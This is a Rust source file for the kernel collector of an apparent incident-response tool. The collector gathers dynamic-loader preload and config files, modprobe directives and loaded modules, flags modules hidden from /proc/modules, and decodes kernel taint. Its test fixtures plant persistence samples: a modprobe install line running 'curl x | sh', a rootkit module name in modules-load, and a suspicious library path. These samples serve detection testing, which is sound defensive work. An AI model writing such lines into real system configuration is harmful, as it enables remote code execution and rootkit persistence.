//! The `kernel` collector: dynamic loader and kernel module configuration, loaded modules and
//! kernel taint.
//!
//! - `/etc/ld.so.preload` (every name in it is injected into every dynamically linked
//!   program), `/etc/ld.so.conf` and `/etc/ld.so.conf.d/*`;
//! - `/etc/modules`, `modules-load.d` and `modprobe.d` directories (`/etc`, `/run`,
//!   `/usr/local/lib`, `/usr/lib`), with the commands of `install`/`remove` directives;
//! - live hosts: `/proc/modules` against `/sys/module` (a module with an `initstate` that
//!   `/proc/modules` does not list is hidden), each module's file from `modules.dep` of the
//!   running kernel (for package ownership), and `/proc/sys/kernel/tainted` decoded.
//!
//! On an image there is no running kernel: loaded modules and taint are recorded as not
//! available; the configuration files are collected all the same.

use crate::util::{ByteSize, DEFAULT_TEXT_CAP, canonicalize, name_text, ptext};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::host::FileKind;
use dossier_plugin_api::records::{
    KernelModuleRecord, KernelTaintRecord, LdPreloadRecord, LdSoConfRecord, ModuleConfigRecord,
    Record, SourceRef,
};
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo};
use serde::Deserialize;
use std::collections::{BTreeMap, HashSet};
use std::path::{Path, PathBuf};

/// The `kernel` collector.
pub struct KernelCollector;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    #[serde(default = "default_cap")]
    max_file_size: ByteSize,
}

fn default_cap() -> ByteSize {
    ByteSize(DEFAULT_TEXT_CAP)
}

/// `modules.dep` of a distribution kernel is about 1 MiB.
const MODULES_DEP_CAP: u64 = 32 << 20;

const LOAD_DIRS: &[&str] = &[
    "/etc/modules-load.d",
    "/run/modules-load.d",
    "/usr/local/lib/modules-load.d",
    "/usr/lib/modules-load.d",
    "/lib/modules-load.d",
];
const MODPROBE_DIRS: &[&str] = &[
    "/etc/modprobe.d",
    "/run/modprobe.d",
    "/usr/local/lib/modprobe.d",
    "/usr/lib/modprobe.d",
    "/lib/modprobe.d",
];

/// Taint bits of `/proc/sys/kernel/tainted` (Documentation/admin-guide/tainted-kernels.rst).
const TAINTS: &[(char, &str)] = &[
    ('P', "proprietary module loaded"),
    ('F', "module force-loaded"),
    ('S', "kernel running on out-of-spec system"),
    ('R', "module force-unloaded"),
    ('M', "machine check exception"),
    ('B', "bad page referenced"),
    ('U', "taint requested by user space"),
    ('D', "kernel died recently (oops or BUG)"),
    ('A', "ACPI table overridden"),
    ('W', "kernel warning issued"),
    ('C', "staging driver loaded"),
    ('I', "platform firmware workaround applied"),
    ('O', "out-of-tree module loaded"),
    ('E', "unsigned module loaded"),
    ('L', "soft lockup occurred"),
    ('K', "kernel live-patched"),
    ('X', "auxiliary taint"),
    ('T', "built with struct randomization"),
    ('N', "in-kernel test run"),
];

/// Decodes a taint value into `letter: meaning` strings.
pub fn decode_taint(value: u64) -> Vec<String> {
    TAINTS
        .iter()
        .enumerate()
        .filter(|(bit, _)| value & (1u64 << bit) != 0)
        .map(|(_, (c, m))| format!("{c}: {m}"))
        .collect()
}

/// Text lines without comments (`#`) and blanks, trimmed.
fn config_lines(data: &[u8]) -> Vec<String> {
    data.split(|b| *b == b'\n')
        .map(|l| String::from_utf8_lossy(l).replace('\t', " "))
        .map(|l| l.split('#').next().unwrap_or("").trim().to_string())
        .filter(|l| !l.is_empty())
        .collect()
}

/// `ld.so.preload` entries: names separated by blanks, colons or newlines.
pub fn parse_preload(data: &[u8]) -> Vec<String> {
    config_lines(data)
        .iter()
        .flat_map(|l| {
            l.split([' ', ':'])
                .filter(|s| !s.is_empty())
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// The module name of a `modules.dep` path (`kernel/fs/foo-bar.ko.zst` → `foo_bar`).
pub fn module_name(path: &str) -> String {
    let base = path.rsplit('/').next().unwrap_or(path);
    let stem = base.split(".ko").next().unwrap_or(base);
    stem.replace('-', "_")
}

/// One `/proc/modules` line: name, size, refcount, state, taint letters.
pub fn parse_proc_modules(data: &[u8]) -> Vec<(u32, String, u64, u32, String)> {
    let mut out = Vec::new();
    for (i, l) in String::from_utf8_lossy(data).lines().enumerate() {
        let f: Vec<&str> = l.split_whitespace().collect();
        if f.len() < 3 {
            continue;
        }
        let taint = f
            .iter()
            .skip(6)
            .find(|t| t.starts_with('('))
            .map(|t| t.trim_matches(['(', ')']).to_string())
            .unwrap_or_default();
        out.push((
            (i + 1) as u32,
            f[0].to_string(),
            f[1].parse().unwrap_or(0),
            f[2].parse().unwrap_or(0),
            taint,
        ));
    }
    out
}

impl Collector for KernelCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "kernel".into(),
            version: crate::util::VERSION.into(),
            description: "ld.so.preload and ld.so.conf, module load and modprobe configuration, loaded and hidden kernel modules, kernel taint".into(),
            after: vec![],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        crate::util::validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cap = ctx.config::<Config>()?.max_file_size.0;
        let preload = Path::new("/etc/ld.so.preload");
        if let Some(c) = ctx.capture(preload, cap) {
            ctx.emit(&Record::LdPreload(LdPreloadRecord {
                path: ptext(preload),
                entries: parse_preload(&c.data),
                meta: Some(c.meta.clone()),
                source: c.source_ref(preload),
            }))?;
        }
        ld_so_conf(ctx, cap)?;
        module_configs(ctx, cap)?;
        if !ctx.is_live() {
            ctx.not_available(
                "/proc/modules",
                "not collected: no live /proc (offline image): loaded modules and kernel taint",
            );
            return Ok(());
        }
        taint(ctx)?;
        modules(ctx, cap)
    }
}

fn ld_so_conf(ctx: &mut CollectContext<'_>, cap: u64) -> Result<(), CollectError> {
    let mut todo: Vec<PathBuf> = vec![PathBuf::from("/etc/ld.so.conf")];
    let mut seen: HashSet<PathBuf> = HashSet::new();
    // ld.so.conf.d is read even when ld.so.conf does not include it (an attacker may rely on
    // a later edit of ld.so.conf, and responders expect the directory).
    for e in ctx
        .list_dir(Path::new("/etc/ld.so.conf.d"))
        .unwrap_or_default()
    {
        todo.push(Path::new("/etc/ld.so.conf.d").join(&e.name));
    }
    todo.reverse();
    let mut budget = 1000usize;
    while let Some(path) = todo.pop() {
        if !seen.insert(path.clone()) || budget == 0 {
            continue;
        }
        budget -= 1;
        let Some(c) = ctx.capture(&path, cap) else {
            continue;
        };
        let mut dirs = Vec::new();
        let mut includes = Vec::new();
        for l in config_lines(&c.data) {
            if let Some(pat) = l.strip_prefix("include ") {
                let pat = pat.trim().to_string();
                includes.push(pat.clone());
                // Only `dir/*.conf`-style patterns are expanded (what distributions use).
                if let Some((dir, suffix)) = pat.rsplit_once("/*") {
                    let dir = Path::new(dir);
                    for e in ctx.list_dir(dir).unwrap_or_default() {
                        if name_text(&e.name).ends_with(suffix) {
                            todo.push(dir.join(&e.name));
                        }
                    }
                } else {
                    todo.push(PathBuf::from(pat));
                }
            } else if l.starts_with("hwcap ") {
                continue;
            } else {
                dirs.extend(
                    l.split([' ', ':', ','])
                        .filter(|d| !d.is_empty())
                        .map(str::to_string),
                );
            }
        }
        ctx.emit(&Record::LdSoConf(LdSoConfRecord {
            path: ptext(&path),
            dirs,
            includes,
            source: c.source_ref(&path),
        }))?;
    }
    Ok(())
}

fn module_configs(ctx: &mut CollectContext<'_>, cap: u64) -> Result<(), CollectError> {
    let mut files: Vec<(PathBuf, &str)> = vec![(PathBuf::from("/etc/modules"), "load")];
    let mut seen_dirs: HashSet<PathBuf> = HashSet::new();
    for (dirs, kind) in [(LOAD_DIRS, "load"), (MODPROBE_DIRS, "modprobe")] {
        for d in dirs {
            let dir = Path::new(d);
            let Some(canon) = canonicalize(ctx.host(), dir) else {
                continue;
            };
            if !seen_dirs.insert(canon) {
                continue;
            }
            for e in ctx.list_dir(dir).unwrap_or_default() {
                if name_text(&e.name).ends_with(".conf") {
                    files.push((dir.join(&e.name), kind));
                }
            }
        }
    }
    for (path, kind) in files {
        match ctx.host().stat(&path) {
            Ok(m) if m.kind == FileKind::File => {}
            Ok(_) => continue,
            Err(e) if e.is_not_found() => continue,
            Err(e) => {
                ctx.host_error(&e);
                continue;
            }
        }
        let Some(c) = ctx.capture(&path, cap) else {
            continue;
        };
        let entries = config_lines(&c.data);
        let commands = if kind == "modprobe" {
            entries
                .iter()
                .filter_map(|l| {
                    let mut w = l.splitn(3, ' ');
                    match (w.next(), w.next(), w.next()) {
                        (Some("install" | "remove"), Some(_), Some(cmd)) => {
                            Some(cmd.trim().to_string())
                        }
                        _ => None,
                    }
                })
                .collect()
        } else {
            vec![]
        };
        ctx.emit(&Record::ModuleConfig(ModuleConfigRecord {
            path: ptext(&path),
            purpose: kind.into(),
            entries,
            commands,
            source: c.source_ref(&path),
        }))?;
    }
    Ok(())
}

fn taint(ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
    let p = Path::new("/proc/sys/kernel/tainted");
    let Some(c) = ctx.capture(p, 64) else {
        ctx.not_available("/proc/sys/kernel/tainted", "not readable");
        return Ok(());
    };
    let text = String::from_utf8_lossy(&c.data).trim().to_string();
    let Ok(value) = text.parse::<u64>() else {
        ctx.issue(
            "/proc/sys/kernel/tainted",
            IssueKind::Malformed,
            format!("not a number: {text:?}"),
        );
        return Ok(());
    };
    ctx.emit(&Record::KernelTaint(KernelTaintRecord {
        value,
        flags: decode_taint(value),
        source: c.source_ref(p),
    }))
}

fn small_text(ctx: &mut CollectContext<'_>, path: &Path) -> Option<String> {
    ctx.host()
        .read(path, 256)
        .ok()
        .map(|o| String::from_utf8_lossy(&o.data).trim().to_string())
}

fn modules(ctx: &mut CollectContext<'_>, cap: u64) -> Result<(), CollectError> {
    let pm = Path::new("/proc/modules");
    let Some(c) = ctx.capture(pm, cap.max(4 << 20)) else {
        ctx.not_available("/proc/modules", "not readable (kernel without modules?)");
        return Ok(());
    };
    let proc_source = c.source_ref(pm);
    let listed = parse_proc_modules(&c.data);
    // Files of the running kernel's modules, from modules.dep.
    let mut files: BTreeMap<String, String> = BTreeMap::new();
    match small_text(ctx, Path::new("/proc/sys/kernel/osrelease")) {
        Some(rel) if !rel.is_empty() && !rel.contains('/') => {
            let base = format!("/lib/modules/{rel}");
            let dep = PathBuf::from(format!("{base}/modules.dep"));
            match ctx.capture(&dep, MODULES_DEP_CAP) {
                Some(d) => {
                    for l in String::from_utf8_lossy(&d.data).lines() {
                        if let Some((p, _)) = l.split_once(':') {
                            let full = if p.starts_with('/') {
                                p.to_string()
                            } else {
                                format!("{base}/{p}")
                            };
                            files.entry(module_name(p)).or_insert(full);
                        }
                    }
                }
                None => ctx.not_available(
                    &ptext(&dep),
                    "missing: module files (and their package ownership) unknown",
                ),
            }
        }
        _ => ctx.not_available("/proc/sys/kernel/osrelease", "kernel release unknown"),
    }
    let mut seen: HashSet<String> = HashSet::new();
    let sys = Path::new("/sys/module");
    let sys_names: HashSet<String> = ctx
        .list_dir(sys)
        .unwrap_or_default()
        .iter()
        .map(|e| name_text(&e.name))
        .collect();
    for (line, name, size, refcnt, taint) in listed {
        seen.insert(name.clone());
        ctx.emit(&Record::KernelModule(KernelModuleRecord {
            file: files.get(&name).cloned(),
            in_sys_module: sys_names.contains(&name),
            in_proc_modules: true,
            initstate: None,
            refcnt: Some(refcnt),
            size: Some(size),
            taint,
            line,
            name,
            source: proc_source.clone(),
        }))?;
    }
    // Modules in /sys/module that /proc/modules does not list: built-in code has no
    // initstate; a loadable module with one is hidden from /proc/modules.
    let mut extra: Vec<&String> = sys_names.iter().filter(|n| !seen.contains(*n)).collect();
    extra.sort();
    for name in extra {
        let dir = sys.join(name);
        let Some(initstate) = small_text(ctx, &dir.join("initstate")) else {
            continue;
        };
        let refcnt = small_text(ctx, &dir.join("refcnt")).and_then(|r| r.parse().ok());
        let taint = small_text(ctx, &dir.join("taint")).unwrap_or_default();
        let source = match ctx.capture(&dir.join("initstate"), 256) {
            Some(c) => c.source_ref(&dir.join("initstate")),
            None => SourceRef::path_only(ptext(&dir)),
        };
        ctx.emit(&Record::KernelModule(KernelModuleRecord {
            name: name.clone(),
            in_proc_modules: false,
            in_sys_module: true,
            initstate: Some(initstate),
            refcnt,
            size: None,
            taint,
            file: files.get(name).cloned(),
            line: 0,
            source,
        }))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::testing::{MemHost, run_collector};

    #[test]
    fn parsers() {
        assert_eq!(
            parse_preload(b"# x\n/usr/lib/libsystemd-shared.so /lib/a.so:/lib/b.so\n"),
            ["/usr/lib/libsystemd-shared.so", "/lib/a.so", "/lib/b.so"]
        );
        assert_eq!(module_name("kernel/fs/fuse-x.ko.zst"), "fuse_x");
        assert_eq!(module_name("updates/dkms/nvidia.ko"), "nvidia");
        let m = parse_proc_modules(
            b"nvidia 5 2 nvidia_modeset, Live 0xffff (POE)\next4 9 1 - Live 0x0\n",
        );
        assert_eq!(m[0].1, "nvidia");
        assert_eq!(m[0].4, "POE");
        assert_eq!(m[1].3, 1);
        assert_eq!(
            decode_taint(4096 + 8192),
            ["O: out-of-tree module loaded", "E: unsigned module loaded"]
        );
    }

    fn host(live: bool) -> MemHost {
        MemHost::new(live)
            .link("/lib", "usr/lib")
            .file(
                "/etc/ld.so.preload",
                "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9\n",
            )
            .file("/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n")
            .file(
                "/etc/ld.so.conf.d/libc.conf",
                "# libc default\n/usr/local/lib\n",
            )
            .file("/etc/ld.so.conf.d/zz.conf", "/var/tmp/.lib\n")
            .file("/etc/modules", "# /etc/modules\nloop\n")
            .file("/etc/modules-load.d/x.conf", "diamorphine\n")
            .file(
                "/usr/lib/modprobe.d/a.conf",
                "blacklist pcspkr\ninstall usb_storage /bin/sh -c 'curl x | sh'\n",
            )
            .file("/proc/sys/kernel/tainted", "12288\n")
            .file("/proc/sys/kernel/osrelease", "6.1.0-13-amd64\n")
            .file(
                "/proc/modules",
                "ext4 9 1 - Live 0x0\nrootkit 5 0 - Live 0x0 (OE)\n",
            )
            .file(
                "/usr/lib/modules/6.1.0-13-amd64/modules.dep",
                "kernel/fs/ext4/ext4.ko: kernel/fs/jbd2/jbd2.ko\n",
            )
            .file("/sys/module/ext4/initstate", "live\n")
            .dir("/sys/module/kernel/parameters")
            .file("/sys/module/ghost/initstate", "live\n")
            .file("/sys/module/ghost/refcnt", "0\n")
    }

    #[test]
    fn collects_live() {
        let (sink, r) = run_collector(
            &KernelCollector,
            &host(true),
            serde_json::Value::Null,
            &Default::default(),
        );
        r.unwrap();
        assert_eq!(
            sink.of_kind("kernel", "ld_preload")[0]["entries"][0],
            "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9"
        );
        let conf = sink.of_kind("kernel", "ld_so_conf");
        assert_eq!(conf.len(), 3, "{conf:?}");
        assert!(conf.iter().any(|c| c["dirs"][0] == "/var/tmp/.lib"));
        let mc = sink.of_kind("kernel", "module_config");
        assert_eq!(mc.len(), 3, "{mc:?}");
        let mp = mc.iter().find(|m| m["purpose"] == "modprobe").unwrap();
        assert_eq!(mp["commands"][0], "/bin/sh -c 'curl x | sh'");
        let t = &sink.of_kind("kernel", "kernel_taint")[0];
        assert_eq!(t["value"], 12288);
        let mods = sink.of_kind("kernel", "kernel_module");
        let by = |n: &str| mods.iter().find(|m| m["name"] == n).cloned();
        assert_eq!(
            by("ext4").unwrap()["file"],
            "/lib/modules/6.1.0-13-amd64/kernel/fs/ext4/ext4.ko"
        );
        assert_eq!(by("rootkit").unwrap()["taint"], "OE");
        assert!(by("rootkit").unwrap().get("file").is_none());
        let ghost = by("ghost").unwrap();
        assert_eq!(ghost["in_proc_modules"], false);
        assert_eq!(ghost["initstate"], "live");
        assert!(by("kernel").is_none(), "built-in code is not a module");
    }

    #[test]
    fn offline_says_what_is_missing() {
        let (sink, r) = run_collector(
            &KernelCollector,
            &host(false),
            serde_json::Value::Null,
            &Default::default(),
        );
        r.unwrap();
        assert!(sink.of_kind("kernel", "kernel_module").is_empty());
        assert_eq!(sink.of_kind("kernel", "ld_preload").len(), 1);
        assert_eq!(sink.issues_about("/proc/modules").len(), 1);
    }
}
